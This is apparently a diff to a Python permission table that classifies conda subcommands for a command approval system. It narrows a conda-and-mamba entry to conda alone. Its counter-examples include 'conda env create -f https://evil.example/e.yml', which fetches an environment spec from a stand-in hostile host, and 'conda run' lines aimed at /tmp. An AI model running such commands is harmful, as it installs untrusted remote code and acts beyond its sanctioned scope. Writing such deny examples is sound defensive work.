@@ -898,82 +898,80 @@ TOOLS: dict[str, Tool] = {
             ),
         },
     ),
-    **{
-        program: Tool(
-            program,
-            Kind.READ,
-            "packages and environments",
-            options="flag -V,--version -h,--help",
-            key_words=2,
-            counter_examples=(f"{program} env create -f https://evil.example/e.yml",),
-            subcommands={
-                "list": _look(
-                    f"{program} list",
-                    "lists packages",
-                    options="""
-                        flag    --json -e,--export -f,--full-name -c,--canonical --explicit -r,--revisions --no-pip
-                        value   -n,--name -p,--prefix
-                    """,
-                ),
-                "info": _look(
-                    f"{program} info",
-                    "shows the installation",
-                    options="flag -a,--all -e,--envs -s,--system --json --base",
-                    operands=(INERT, ...),
-                ),
-                "search": _look(f"{program} search", "searches packages", options="flag --info -i --json"),
-                "config": Tool(
-                    f"{program} config",
-                    Kind.READ,
-                    "shows settings",
-                    options="""
-                        flag    --show --show-sources --json
-                        value   --get
-                    """,
-                    operands=(),
-                    key_words=2,
-                ),
-                "env": Tool(
-                    f"{program} env",
-                    Kind.READ,
-                    "environments",
-                    key_words=2,
-                    subcommands={
-                        "list": _look(
-                            f"{program} env list",
-                            "lists environments",
-                            options="flag --json",
-                            operands=(),
-                            examples=(f"{program} env list",),
-                        ),
-                        "create": _install(f"{program} env create", "makes an environment from a file"),
-                        "export": _look(
-                            f"{program} env export",
-                            "shows an environment",
-                            options="""
-                                flag    --no-builds --from-history --json
-                                value   -n,--name
-                            """,
-                            operands=(),
-                        ),
-                    },
-                ),
-                "run": _run(
-                    f"{program} run",
-                    options="""
-                        flag    --no-capture-output --live-stream -v
-                        value   -n,--name
-                        asks    -p,--prefix --cwd: works elsewhere
-                    """,
-                    examples=(f"{program} run -n dev pytest -q",),
-                    counter_examples=(f"{program} run touch /tmp/x", f"{program} run -p /tmp/x pytest"),
-                ),
-                "create": _install(f"{program} create", "makes an environment"),
-                "install": _install(f"{program} install", "installs packages"),
-            },
-        )
-        for program in ("conda", "mamba")
-    },
+    "conda": Tool(
+        "conda",
+        Kind.READ,
+        "packages and environments",
+        options="flag -V,--version -h,--help",
+        key_words=2,
+        manual="conda/cli of conda 018420c, 0263315 and 10d35fd",
+        counter_examples=("conda env create -f https://evil.example/e.yml",),
+        subcommands={
+            "list": _look(
+                "conda list",
+                "lists packages",
+                options="""
+                    flag    --json -e,--export -f,--full-name -c,--canonical --explicit -r,--revisions --no-pip
+                    value   -n,--name -p,--prefix
+                """,
+            ),
+            "info": _look(
+                "conda info",
+                "shows the installation",
+                options="flag -a,--all -e,--envs -s,--system --json --base",
+                operands=(INERT, ...),
+            ),
+            "search": _look("conda search", "searches packages", options="flag --info -i --json"),
+            "config": Tool(
+                "conda config",
+                Kind.READ,
+                "shows settings",
+                options="""
+                    flag    --show --show-sources --json
+                    value   --get
+                """,
+                operands=(),
+                key_words=2,
+            ),
+            "env": Tool(
+                "conda env",
+                Kind.READ,
+                "environments",
+                key_words=2,
+                subcommands={
+                    "list": _look(
+                        "conda env list",
+                        "lists environments",
+                        options="flag --json",
+                        operands=(),
+                        examples=("conda env list",),
+                    ),
+                    "create": _install("conda env create", "makes an environment from a file"),
+                    "export": _look(
+                        "conda env export",
+                        "shows an environment",
+                        options="""
+                            flag    --no-builds --from-history --json
+                            value   -n,--name
+                        """,
+                        operands=(),
+                    ),
+                },
+            ),
+            "run": _run(
+                "conda run",
+                options="""
+                    flag    --no-capture-output --live-stream -v
+                    value   -n,--name
+                    asks    -p,--prefix --cwd: works elsewhere
+                """,
+                examples=("conda run -n dev pytest -q",),
+                counter_examples=("conda run touch /tmp/x", "conda run -p /tmp/x pytest"),
+            ),
+            "create": _install("conda create", "makes an environment"),
+            "install": _install("conda install", "installs packages"),
+        },
+    ),
     "virtualenv": Tool(
         "virtualenv",
         Kind.EDIT,
